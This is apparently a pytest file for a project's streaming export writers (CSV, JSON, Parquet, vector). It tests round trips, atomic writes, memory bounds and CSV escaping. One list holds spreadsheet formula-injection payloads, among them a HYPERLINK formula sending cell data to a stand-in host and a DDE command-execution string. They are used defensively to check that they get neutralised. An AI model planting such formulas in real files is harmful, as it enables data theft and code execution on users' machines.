"""Tests for the streaming export writers: exact round trips, atomicity and bounded memory."""

from __future__ import annotations

import csv
import io
import json
import math
import os
import subprocess
import sys
import textwrap
import tracemalloc
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow.parquet as pq
import pytest

from ragcast.exports import EXTENSIONS, FIELD_NAMES, FORMATS, ExportRecord, write_export

DIM = 384
NULLABLE = {
    "start_s",
    "end_s",
    "title",
    "url",
    "deep_link",
    "channel",
    "upload_date",
    "duration_s",
    "language",
    "language_probability",
    "speaker",
    "speakers",
    "confidence",
}
INT_FIELDS = {"chunk_index", "token_count", "dimensions"}
FLOAT_FIELDS = {"start_s", "end_s", "duration_s", "language_probability", "confidence"}
#: what a csv cell joins a list of names with
CSV_SEPARATOR = "; "


def make_record(
    i: int, rng: np.random.Generator, *, dim: int = DIM, numpy_only: bool = False
) -> ExportRecord:
    """A varied record: every 7th has no timing (a document), every 5th no title or url
    (an upload: no deep link, channel or upload date), every 3rd diarized."""
    vector = rng.standard_normal(dim, dtype=np.float32)
    # Half the records carry a list of Python floats, as a provider without numpy would.
    embedding: Any = vector if numpy_only or i % 2 else vector.tolist()
    timed = i % 7 != 0
    start = i * 1.2345678901 if timed else None
    return ExportRecord(
        id=f"upload-ab12cd:{i}",
        job_id="job-1",
        content_id=f"upload-ab12cd-{i // 100}",
        chunk_index=i % 100,
        text=f'chunk {i}: some words, "quoted" and ünïcödé — {i * 31 % 97}',
        start_s=start,
        end_s=start + 10.5 if start is not None else None,
        token_count=50 + i % 200,
        source_type="youtube" if i % 3 else "upload",
        source=f"https://youtu.be/v{i // 100}" if i % 3 else f"talk {i // 100}.mp3",
        title=None if i % 5 == 0 else f"Title {i // 100}",
        url=None if i % 5 == 0 else f"https://youtu.be/v{i // 100}",
        deep_link=None if i % 5 == 0 else f"https://youtu.be/v{i // 100}?t={i}s",
        platform="youtube",
        channel=None if i % 5 == 0 else f'Channel, "{i % 3}"',
        upload_date=None if i % 5 == 0 else f"202401{1 + i % 28:02d}",
        duration_s=None if i % 11 == 0 else 600.0 + i / 8,
        language=(None, "en", "de", "zh")[i % 4],
        language_probability=None if i % 4 < 2 else round(0.9 + (i % 10) / 100, 3),
        speaker=None if i % 3 else f"SPEAKER_0{i % 2}",
        speakers=None if i % 3 else (["Host", "=Guest"] if i % 2 else [f"SPEAKER_0{i % 2}"]),
        confidence=None if not timed else round(0.5 + (i % 50) / 100, 4),
        embedding_model="all-MiniLM-L6-v2",
        dimensions=dim,
        embedding=embedding,
    )


def make_records(n: int, seed: int = 0, *, dim: int = DIM) -> Iterator[ExportRecord]:
    """Generate ``n`` records lazily."""
    rng = np.random.default_rng(seed)
    for i in range(n):
        yield make_record(i, rng, dim=dim)


def expected_row(record: ExportRecord) -> dict[str, Any]:
    """The record as every reader below normalises a row."""
    row: dict[str, Any] = {name: getattr(record, name) for name in FIELD_NAMES}
    row["embedding"] = np.asarray(record.embedding, dtype=np.float32).tolist()
    return row


def read_json(path: Path) -> list[dict[str, Any]]:
    """Rows of a json export, checking its envelope."""
    doc = json.loads(path.read_text(encoding="utf-8"))
    assert doc["format"] == "ragcast-export"
    assert doc["version"] == 2
    assert doc["count"] == len(doc["chunks"])
    rows: list[dict[str, Any]] = doc["chunks"]
    return rows


def _csv_value(name: str, value: str) -> Any:
    if name == "embedding":
        return json.loads(value)
    if name in NULLABLE and value == "":
        return None
    if name == "speakers":
        return value.split(CSV_SEPARATOR)
    if name in INT_FIELDS:
        return int(value)
    if name in FLOAT_FIELDS:
        return float(value)
    return value


def read_csv(path: Path) -> list[dict[str, Any]]:
    """Rows of a csv export, with cells converted back to their types."""
    with path.open(encoding="utf-8", newline="") as f:
        reader = csv.DictReader(f)
        assert reader.fieldnames == list(FIELD_NAMES)
        return [{k: _csv_value(k, v) for k, v in row.items()} for row in reader]


def read_parquet(path: Path) -> list[dict[str, Any]]:
    """Rows of a parquet export."""
    rows: list[dict[str, Any]] = pq.read_table(path).to_pylist()
    return rows


def read_vector(path: Path) -> list[dict[str, Any]]:
    """Rows of a vector export, rebuilt from id, values and metadata."""
    # One record per line even for a reader that splits on every Unicode line break.
    lines = path.read_text(encoding="utf-8").splitlines()
    rows = []
    with path.open(encoding="utf-8") as f:
        for line in f:
            item = json.loads(line)
            assert set(item) == {"id", "values", "metadata"}
            for value in item["metadata"].values():
                if isinstance(value, list):  # speakers: a list of strings
                    assert value and all(isinstance(v, str) for v in value)
                else:
                    assert isinstance(value, str | int | float | bool)
            row = {name: item["metadata"].get(name) for name in FIELD_NAMES}
            row["id"] = item["id"]
            row["embedding"] = item["values"]
            rows.append(row)
    assert len(lines) == len(rows)
    return rows


READERS: dict[str, Callable[[Path], list[dict[str, Any]]]] = {
    "json": read_json,
    "csv": read_csv,
    "parquet": read_parquet,
    "vector": read_vector,
}


def export_path(tmp_path: Path, fmt: str) -> Path:
    """The final path of an export in ``fmt``."""
    return tmp_path / f"export.{EXTENSIONS[fmt]}"


def assert_rows_equal(rows: list[dict[str, Any]], records: list[ExportRecord]) -> None:
    """Every field of every row equals the record's, embeddings bit for bit."""
    assert len(rows) == len(records)
    for row, record in zip(rows, records, strict=True):
        expected = expected_row(record)
        assert set(row) == set(expected)
        for name in FIELD_NAMES:
            if name == "embedding":
                got = np.asarray(row[name], dtype=np.float64)
                # Equal as float64 means the written values are exactly the float32 ones.
                assert np.array_equal(got, np.asarray(expected[name], dtype=np.float64))
            else:
                assert row[name] == expected[name], (name, row[name], expected[name])
                assert type(row[name]) is type(expected[name]), name


@pytest.mark.parametrize("fmt", FORMATS)
def test_round_trip_every_field(tmp_path: Path, fmt: str) -> None:
    """Every field of 2,500 records reads back exactly; progress comes per batch."""
    records = list(make_records(2500))
    path = export_path(tmp_path, fmt)
    progress: list[int] = []

    written = write_export(fmt, iter(records), path, total=2500, on_progress=progress.append)

    assert written == 2500
    assert progress == [1000, 2000, 2500]
    assert_rows_equal(READERS[fmt](path), records)
    assert not path.with_suffix(path.suffix + ".part").exists()
    assert sorted(os.listdir(tmp_path)) == [path.name]


def test_parquet_schema_and_row_groups(tmp_path: Path) -> None:
    """Parquet has the explicit schema and one row group per batch."""
    path = export_path(tmp_path, "parquet")
    write_export("parquet", make_records(2500), path, total=2500, batch_size=1000)

    meta = pq.ParquetFile(path).metadata
    assert meta.num_row_groups == 3
    assert [meta.row_group(i).num_rows for i in range(3)] == [1000, 1000, 500]
    schema = pq.read_schema(path)
    assert str(schema.field("embedding").type.value_type) == "float"
    assert str(schema.field("chunk_index").type) == "int32"
    assert str(schema.field("token_count").type) == "int32"
    assert str(schema.field("start_s").type) == "double"
    assert str(schema.field("speakers").type) == "list<element: string>"
    assert str(schema.field("dimensions").type) == "int32"
    assert schema.field("start_s").nullable and schema.field("deep_link").nullable
    assert not schema.field("id").nullable and not schema.field("platform").nullable
    assert schema.metadata is None  # write_export was given none
    table = pq.read_table(path)
    assert table.column("speakers").to_pylist()[:4] == [
        ["SPEAKER_00"],
        None,
        None,
        ["Host", "=Guest"],
    ]


def test_parquet_carries_the_given_schema_metadata(tmp_path: Path) -> None:
    """``metadata`` becomes the parquet schema's key/value metadata; other formats ignore it."""
    meta = {"embedding_model": "use-multilingual-v3", "dimensions": "512", "job_id": "j:1"}
    path = export_path(tmp_path, "parquet")
    write_export("parquet", make_records(5), path, total=5, batch_size=2, metadata=meta)
    schema = pq.read_schema(path)
    assert {k.decode(): v.decode() for k, v in schema.metadata.items()} == meta
    assert pq.read_table(path).num_rows == 5
    json_path = export_path(tmp_path, "json")
    write_export("json", make_records(5), json_path, total=5, metadata=meta)
    assert len(read_json(json_path)) == 5


def test_csv_joins_speakers_as_the_vector_metadata_does() -> None:
    """The csv separator is the one the vector store's ``speakers`` metadata uses."""
    from ragcast.exports import writers
    from ragcast.retrieval.records import SPEAKER_SEPARATOR

    assert writers.CSV_LIST_SEPARATOR == CSV_SEPARATOR == SPEAKER_SEPARATOR
    assert writers.csv_safe(["=Guest", "Host"]) == "'=Guest; Host"


@pytest.mark.parametrize("fmt", FORMATS)
def test_empty_export_is_valid(tmp_path: Path, fmt: str) -> None:
    """Zero records still make a valid file that reads back empty."""
    path = export_path(tmp_path, fmt)
    progress: list[int] = []

    assert write_export(fmt, [], path, total=0, on_progress=progress.append) == 0

    assert progress == [0]
    assert READERS[fmt](path) == []
    if fmt == "parquet":
        assert pq.read_schema(path).names == list(FIELD_NAMES)
    if fmt == "json":
        assert json.loads(path.read_text(encoding="utf-8"))["chunks"] == []


@pytest.mark.parametrize("fmt", FORMATS)
def test_awkward_text_survives(tmp_path: Path, fmt: str) -> None:
    """Commas, quotes, newlines and unusual Unicode round-trip in every format."""
    rng = np.random.default_rng(1)
    texts = [
        'He said, "hello, world" — then left.',
        "line one\nline two\r\nline three\rend",
        "tabs\tand, commas,,, and ''single'' and \"\"double\"\"",
        "emoji 🎙️ 日本語 العربية \u2028 \u2029 \x85 separators \x00 nul \x1c",
        "",
        ",",
        '"',
    ]
    records = []
    for i, text in enumerate(texts):
        record = make_record(i + 1, rng, dim=8)
        record.text = text
        record.title = f'Title, "{i}"\nsecond line'
        records.append(record)
    path = export_path(tmp_path, fmt)

    write_export(fmt, records, path, total=len(records))

    assert_rows_equal(READERS[fmt](path), records)


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1, "click")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\tstarts with a tab",
    "\rstarts with a carriage return",
]


def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(tmp_path: Path) -> None:
    rng = np.random.default_rng(2)
    records = []
    for i, text in enumerate(FORMULAS):
        record = make_record(i + 1, rng, dim=8)
        record.text = text
        record.source = text  # a file name can carry a formula too
        record.title = "plain title"
        records.append(record)
    path = export_path(tmp_path, "csv")
    write_export("csv", records, path, total=len(records))
    with path.open(encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    for row, text in zip(rows, FORMULAS, strict=True):
        assert row["text"] == "'" + text and row["source"] == "'" + text
        assert row["title"] == "plain title"
        assert row["embedding"].startswith("[")  # numbers and JSON arrays are left alone
    # The other formats carry the text exactly: escaping is a spreadsheet concern.
    for fmt in ("json", "vector", "parquet"):
        other = export_path(tmp_path, fmt)
        write_export(fmt, records, other, total=len(records))
        assert [r["text"] for r in READERS[fmt](other)] == FORMULAS


@pytest.mark.parametrize("fmt", FORMATS)
def test_failing_source_leaves_no_file(tmp_path: Path, fmt: str) -> None:
    """A source raising midway propagates and leaves neither file."""

    def failing() -> Iterator[ExportRecord]:
        yield from make_records(1500)
        raise RuntimeError("chunk store went away")

    path = export_path(tmp_path, fmt)
    progress: list[int] = []
    with pytest.raises(RuntimeError, match="went away"):
        write_export(fmt, failing(), path, total=3000, on_progress=progress.append)

    assert progress == [1000]
    assert os.listdir(tmp_path) == []


@pytest.mark.parametrize("fmt", FORMATS)
def test_failed_export_keeps_previous_file(tmp_path: Path, fmt: str) -> None:
    """A failed re-export leaves the previous complete export intact."""
    path = export_path(tmp_path, fmt)
    write_export(fmt, make_records(3), path, total=3)
    before = path.read_bytes()

    def failing() -> Iterator[ExportRecord]:
        yield from make_records(10, seed=2)
        raise RuntimeError("boom")

    with pytest.raises(RuntimeError):
        write_export(fmt, failing(), path, total=10)

    assert path.read_bytes() == before
    assert os.listdir(tmp_path) == [path.name]


@pytest.mark.parametrize("fmt", ["json", "csv", "vector"])
def test_nan_embedding_fails_instead_of_writing_invalid_json(tmp_path: Path, fmt: str) -> None:
    """NaN is refused rather than written as invalid JSON."""
    record = next(make_records(1))
    record.embedding = [0.5, math.nan]
    path = export_path(tmp_path, fmt)

    with pytest.raises(ValueError):
        write_export(fmt, [record], path, total=1)

    assert os.listdir(tmp_path) == []


def test_unknown_format_and_bad_batch_size(tmp_path: Path) -> None:
    """Bad arguments raise ValueError before any file is created."""
    with pytest.raises(ValueError, match="unknown export format"):
        write_export("xml", make_records(1), tmp_path / "a.xml", total=1)
    with pytest.raises(ValueError, match="batch_size"):
        write_export("json", make_records(1), tmp_path / "a.json", total=1, batch_size=0)
    assert os.listdir(tmp_path) == []


def test_count_mismatch_is_logged_not_raised(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """A count different from ``total`` is only logged."""
    path = export_path(tmp_path, "json")
    assert write_export("json", make_records(2), path, total=5) == 2
    assert "expected 5" in caplog.text


def test_metadata_excludes_id_and_embedding() -> None:
    """``metadata()`` holds every field but ``id`` and ``embedding``."""
    record = next(make_records(1))
    metadata = record.metadata()
    assert set(metadata) == set(FIELD_NAMES) - {"id", "embedding"}
    assert metadata["text"] == record.text


# The whole data set as float64 Python values; a writer that buffered it all would need
# at least this much.
BIG_N = 10_000
WHOLE_DATA_BYTES = BIG_N * DIM * 8


def numpy_records(n: int) -> Iterator[ExportRecord]:
    """Records with float32 numpy embeddings, the shape the chunk store yields."""
    rng = np.random.default_rng(3)
    for i in range(n):
        yield make_record(i, rng, numpy_only=True)


@pytest.mark.parametrize("fmt", FORMATS)
def test_memory_stays_bounded(tmp_path: Path, fmt: str) -> None:
    """Python memory peaks far below the data size: records are streamed."""
    path = export_path(tmp_path, fmt)
    tracemalloc.start()
    try:
        tracemalloc.reset_peak()
        written = write_export(fmt, numpy_records(BIG_N), path, total=BIG_N)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert written == BIG_N
    assert peak < WHOLE_DATA_BYTES * 0.25, f"peak {peak / 1e6:.1f} MB"


def _arrow_peak(tmp_path: Path, n: int) -> int:
    # tracemalloc does not see Arrow's own allocator, so read its pool's peak in a fresh
    # interpreter where nothing else has used it.
    script = textwrap.dedent(
        f"""
        import sys
        from pathlib import Path
        import pyarrow as pa
        sys.path[:0] = {[str(Path(__file__).parent), *sys.path]!r}
        from test_writers import numpy_records
        from ragcast.exports import write_export
        path = Path({str(tmp_path / f"{n}.parquet")!r})
        write_export("parquet", numpy_records({n}), path, total={n})
        print(pa.default_memory_pool().max_memory())
        """
    )
    result = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, check=True, timeout=240
    )
    return int(result.stdout.strip().splitlines()[-1])


def test_parquet_arrow_memory_stays_bounded(tmp_path: Path) -> None:
    """Arrow's memory stays bounded and independent of the record count."""
    # Parquet is fast enough to afford the larger set: the bound is a fixed batch size.
    n = 30_000
    small, big = _arrow_peak(tmp_path, 3_000), _arrow_peak(tmp_path, n)

    assert big < n * DIM * 8 * 0.25, f"arrow peak {big / 1e6:.1f} MB"
    # Ten times the records, the same peak: nothing accumulates across row groups.
    assert big < small * 1.25, (small, big)


def test_csv_is_what_csv_writer_writes(tmp_path: Path) -> None:
    """Every csv row, embedding cell included, is the text ``csv.writer`` makes of it."""
    rng = np.random.default_rng(4)
    records = []
    for i, dim in enumerate([0, 1, 2, 5, DIM]):
        record = make_record(i + 1, rng, dim=dim)
        record.text = ('say "hi", then\r\nleave', "=1+1", "plain", " lead", "")[i]
        records.append(record)
    path = export_path(tmp_path, "csv")
    write_export("csv", records, path, total=len(records))

    expected = io.StringIO()
    writer = csv.writer(expected)
    writer.writerow(FIELD_NAMES)
    for record in records:
        cells = [getattr(record, name) for name in FIELD_NAMES[:-1]]
        cells = [CSV_SEPARATOR.join(c) if isinstance(c, list) else c for c in cells]
        cells = ["'" + c if isinstance(c, str) and c[:1] in "=+-@\t\r" and c else c for c in cells]
        writer.writerow([*cells, json.dumps(expected_row(record)["embedding"])])
    assert path.read_bytes().decode("utf-8") == expected.getvalue()
